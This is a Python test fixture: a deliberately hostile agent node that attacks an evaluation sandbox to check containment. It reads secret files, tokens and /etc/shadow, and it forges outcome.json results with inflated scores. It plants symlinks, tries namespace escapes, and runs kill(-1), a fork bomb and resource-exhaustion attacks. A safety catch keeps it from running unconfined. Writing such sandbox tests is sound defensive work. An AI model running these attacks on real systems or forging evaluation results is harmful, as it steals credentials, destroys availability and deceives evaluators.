"""A hostile agent node for the sandbox tests: ``python3 hostile.py CASE``.

A bare AIDO agent node (cbor2 only, so that it starts fast) that answers the protocol until its first
``get_commands``, then attacks as CASE says, writes on stderr ``ATTEMPTED CASE`` and what came of each
try (``blocked: ...``, and ``ESCAPED ...`` for anything that got through the sandbox), and exits with
status 1. ``targets.json`` (written by the test into the package) names what to go for: secret files,
the evaluator's work dir and pid, the server's database, a listener on 127.0.0.1.

Safety catch: where it finds itself unconfined (root, other processes or the host's files in view) it
attacks nothing and only says ``ESCAPED: not confined``: run unsandboxed as root, ``kill(-1)`` or a fork
bomb would take the whole machine down, and a planted symlink would let the worker overwrite host files
(an earlier evaluator wrote its trajectory archive over /etc/shadow that way).
"""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import sys
import time

import cbor2

CASE = sys.argv[1] if len(sys.argv) > 1 else ""
T: dict = {}  # targets.json, read by main()
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET, CLONE_NEWUSER = 0x40000000, 0x10000000
DESCRIPTION = {"data": {"inputs": {t: {} for t in ("seed", "episode_start", "observations", "get_commands")},
                        "outputs": {"commands": {}}, "language": "", "description": "hostile node"}, "meta": {}}


def say(*parts) -> None:
    print(*parts, file=sys.stderr, flush=True)


def read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except OSError as exc:
        say(f"blocked: read {path}: {type(exc).__name__}")
        return None
    say(f"ESCAPED: read {path}: {data[:300]!r}")
    return data


def write(path: str, data: bytes, outside: bool) -> None:
    """Write ``path``; ``outside``: a file the evaluator could trust (an escape if it works)."""
    try:
        with open(path, "wb") as f:
            f.write(data)
    except OSError as exc:
        say(f"blocked: write {path}: {type(exc).__name__}")
        return
    say(f"{'ESCAPED' if outside else 'inside'}: wrote {path}")


def visible_pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def job_dirs() -> list[str]:
    return glob.glob(os.path.join(T["work_dir"], "job-*"))


def connect(port: int, what: str) -> None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"ESCAPED hello from the sandbox\n")
        say(f"ESCAPED: connected to {what} 127.0.0.1:{port}")
    except OSError as exc:
        say(f"blocked: connect {what} 127.0.0.1:{port}: {exc}")


def kill(pid: int, what: str) -> None:
    try:
        os.kill(pid, signal.SIGKILL)
        say(f"sent SIGKILL to {what} (pid {pid} as seen here)")
    except OSError as exc:
        say(f"blocked: kill {what} {pid}: {type(exc).__name__}")


# -- the cases ---------------------------------------------------------------------------------------

def fake_outcome() -> None:
    fake = json.dumps({"status": "success", "message": "all good", "public_scores": {"survival_time_median": 1e9},
                       "hidden_scores": {}, "public_report": {}, "hidden_report": {}, "artifacts": []}).encode()
    write("outcome.json", fake, False)
    write("/scratch/outcome.json", fake, False)
    write("/tmp/outcome.json", fake, False)
    for d in [T["work_dir"], *job_dirs()]:
        write(os.path.join(d, "outcome.json"), fake, True)
    for pid in visible_pids():  # the worker would be a python process running proxybench.evaluator.run
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"evaluator.run" in f.read():
                kill(pid, "the job's worker")
    kill(os.getppid(), "my parent")
    kill(T["evaluator_pid"], "the evaluator")
    sys.stderr.buffer.write(b"and NUL bytes for the database:\x00\x00 \x01\x1b[31m red\n")  # text no DB takes


def read_secrets() -> None:
    """Secret files, the job's hidden test seed, the server's database, tokens in other processes."""
    for path in T["secrets"]:
        read(path)
    for path in [os.path.join(d, "job.json") for d in job_dirs()] or [os.path.join(T["work_dir"], "job.json")]:
        read(path)
    read(T["db"])
    for path in glob.glob(os.path.join(T["data_dir"], "*")):
        read(path)
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr", "/dev")
                   and d not in ("site-packages", "lib", "include", "share")]  # the runtime's packages: big
        found += [os.path.join(root, f) for f in files if f.endswith((".json", ".token", ".sqlite3"))
                  and root != "/agent"]
    for path in found:
        read(path)
    for pid in visible_pids():
        for name in ("environ", "cmdline"):
            data = None
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as f:
                data = f.read()
            if data and (b"pbt_" in data or b"PROXYBENCH_TOKEN" in data):
                say(f"ESCAPED: token in /proc/{pid}/{name}: {data[:300]!r}")
    say(f"job, token or database files visible: {found}; processes visible: {sorted(visible_pids())}")


def artifacts() -> None:
    listing = {"status": "success", "artifacts": [
        {"name": "shadow", "path": "/etc/shadow", "hidden": False},
        {"name": "admin.token", "path": T["secrets"][0], "hidden": False}]}
    for d in [".", "/scratch", "/tmp", T["work_dir"], *job_dirs()]:
        write(os.path.join(d, "outcome.json"), json.dumps(listing).encode(), d not in (".", "/scratch", "/tmp"))
        for name, target in (("trajectories-validation.zip", "/etc/shadow"), ("evaluator.log", T["secrets"][0])):
            try:
                os.symlink(target, os.path.join(d, name))
                say(f"{'inside' if d in ('/scratch', '/tmp') else 'ESCAPED'}: symlink {d}/{name} -> {target}")
            except OSError as exc:
                say(f"blocked: symlink {d}/{name}: {type(exc).__name__}")


def network() -> None:
    """127.0.0.1 (the sandbox's own), then into any network namespace it can open, then 127.0.0.1 again."""
    connect(T["listener_port"], "the test's listener")
    connect(T["server_port"], "the challenges server")
    for pid in [1, os.getppid(), *visible_pids()]:
        path = f"/proc/{pid}/ns/net"
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as exc:
            say(f"blocked: open {path}: {type(exc).__name__}")
            continue
        ok = libc.setns(fd, CLONE_NEWNET)
        say(f"{'blocked' if ok else 'joined'}: setns({path}): {os.strerror(ctypes.get_errno()) if ok else 'ok'}")
        os.close(fd)
    ok = libc.unshare(CLONE_NEWUSER | CLONE_NEWNET)
    say(f"{'blocked' if ok else 'made'}: unshare(user+net): {os.strerror(ctypes.get_errno()) if ok else 'ok'}")
    connect(T["listener_port"], "the test's listener, after setns")


def kill_parent() -> None:
    kill(os.getppid(), "my parent")
    kill(1, "pid 1")
    kill(T["evaluator_pid"], "the evaluator")
    with contextlib.suppress(OSError):
        os.killpg(T["evaluator_pid"], signal.SIGKILL)
        say("ESCAPED: killed the evaluator's process group")
    for pid in visible_pids():
        kill(pid, "a visible process")
    say("now kill(-1): everything I may signal")
    os.kill(-1, signal.SIGKILL)


def fork_bomb() -> None:
    n = 0
    try:
        while n < 100_000:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            n += 1
    except OSError as exc:
        say(f"blocked: fork bomb stopped after {n} processes: {exc}")
    else:
        say(f"ESCAPED: forked {n} processes")


def leave_child() -> None:
    say("leaving a daemon behind")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # a daemon that would sabotage the next job: kill everything, fill /tmp, spin
            time.sleep(0.5)  # once its agent is gone
            for _ in range(1200):
                for pid in visible_pids():
                    with contextlib.suppress(OSError):
                        os.kill(pid, signal.SIGKILL)
                with contextlib.suppress(OSError), open("/tmp/hostile-daemon", "ab") as f:
                    f.write(b"x" * 4096)
                t = time.monotonic()
                while time.monotonic() - t < 0.05:
                    pass
            os._exit(0)
        os._exit(0)
    time.sleep(0.1)


def fill_scratch() -> None:
    chunk = b"\xab" * (1 << 20)
    for d in ("/scratch", "/tmp", "/dev/shm", ".", T["work_dir"]):
        n = 0
        try:
            with open(os.path.join(d, "hostile-fill"), "wb") as f:
                while n < 100_000:
                    f.write(chunk)
                    f.flush()
                    n += 1
        except OSError as exc:
            say(f"{d} full after {n} MiB: {exc.strerror}")


def memory_hog() -> None:
    held, n = [], 0
    try:
        while n < 100_000:
            block = bytearray(32 << 20)
            block[::4096] = b"\x01" * len(block[::4096])  # touch every page
            held.append(block)
            n += 32
    except MemoryError:
        say(f"blocked: MemoryError after {n} MiB")


def cpu_hog() -> None:
    say("spinning")
    while True:
        pass


def unsafe_here() -> str:
    """Why this process is not in a sandbox where the attacks are harmless ('' if it is)."""
    if os.geteuid() == 0:
        return "running as root"
    if len(visible_pids()) > 2:
        return f"{len(visible_pids())} other processes visible: not in a PID namespace of its own"
    if os.path.exists("/etc/shadow") or os.path.exists(T["work_dir"]):
        return "the host's files are visible"
    return ""


def send(*msgs) -> None:
    sys.stdout.buffer.write(b"".join(cbor2.dumps(m) for m in msgs))
    sys.stdout.buffer.flush()


def ctrl(code, data=None) -> dict:
    return {"control": code, "data": data}


def main() -> None:
    with open("targets.json") as f:
        T.update(json.load(f))
    decoder = cbor2.CBORDecoder(sys.stdin.buffer)
    while True:
        try:
            msg = decoder.decode()
        except (cbor2.CBORDecodeEOF, EOFError):
            return
        if msg.get("control") == "capabilities":
            send(ctrl("understood"), ctrl("capabilities", {"z2": {"protocol-reflection": True}}), ctrl("over"))
            continue
        outputs = []
        if msg.get("topic") == "wrapper.describe_protocol":
            outputs = [{"compat": ["z2"], "topic": "protocol_description", "data": DESCRIPTION, "timing": None}]
        elif msg.get("topic") == "get_commands":
            unconfined = unsafe_here()
            if unconfined:  # never fork-bomb or kill(-1) a real machine: the test fails on this line anyway
                say(f"ESCAPED: not confined ({unconfined}): {CASE} not attempted")
                os._exit(1)
            say(f"ATTEMPTED {CASE}")
            try:
                globals()[CASE]()
            except Exception as exc:  # one line, so that the evidence stays in the report's stderr tail
                say(f"{CASE}: {type(exc).__name__}: {exc}")
            say(f"DONE {CASE}")
            os._exit(1)
        send(ctrl("understood"), *outputs, ctrl("over"))


if __name__ == "__main__":
    main()
